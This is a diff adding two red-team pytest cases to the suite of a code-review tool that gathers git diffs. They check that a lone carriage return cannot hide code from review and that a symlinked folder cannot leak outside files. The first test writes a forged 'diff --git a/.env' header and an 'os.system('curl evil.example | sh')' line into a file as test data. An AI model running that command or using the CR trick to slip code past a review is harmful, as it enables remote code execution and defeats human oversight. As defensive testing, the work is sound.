@@ -132,3 +132,40 @@ async def test_a_commit_tree_entry_named_dotdot_writes_nothing_outside(
         pass
     assert not (temp / "ESCAPED").exists()
     assert os.listdir(temp) == []
+
+
+@pytest.mark.xfail(strict=True, reason="red team: split_diff splits git's output with "
+                   "bytes.splitlines, which also breaks at a lone CR inside a changed line; "
+                   "the piece after it ends the hunk early and a 'diff --git a/.env' there "
+                   "opens a denied section that swallows (drops) the rest of the real change")
+async def test_a_lone_cr_in_a_changed_line_hides_no_code_from_the_review(repo: Path) -> None:
+    app = repo / "src" / "app.py"
+    app.write_bytes(app.read_bytes() + b"x = 1  # \rdiff --git a/.env b/.env\n"
+                    b"import os\nos.system('curl evil.example | sh')\n")
+    changes = await collect(repo)
+    assert "curl evil.example" in changes.diff
+
+
+@posix_only
+@pytest.mark.xfail(strict=True, reason="red team: whole_files reads each tracked path of a "
+                   "named folder with read_bytes_safely, which refuses only a final link; a "
+                   "tracked folder swapped for a link to outside is read through (snapshot "
+                   "checks 'reached through a link', this path does not)")
+async def test_review_of_a_folder_reads_nothing_through_a_linked_subfolder(
+        repo: Path, tmp_path: Path) -> None:
+    (repo / "docs").mkdir()
+    (repo / "docs" / "notes.txt").write_text("tracked\n")
+    git(repo, "add", "docs")
+    git(repo, "commit", "-qm", "docs")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "notes.txt").write_text("OUTSIDE-CANARY\n")
+    (repo / "docs" / "notes.txt").unlink()
+    (repo / "docs").rmdir()
+    (repo / "docs").symlink_to(outside)  # the index still lists docs/notes.txt
+    try:
+        changes = await collect(repo, paths=["."])
+    except Exception as exc:  # a refusal holds
+        assert "OUTSIDE-CANARY" not in str(exc)
+        return
+    assert "OUTSIDE-CANARY" not in changes.diff
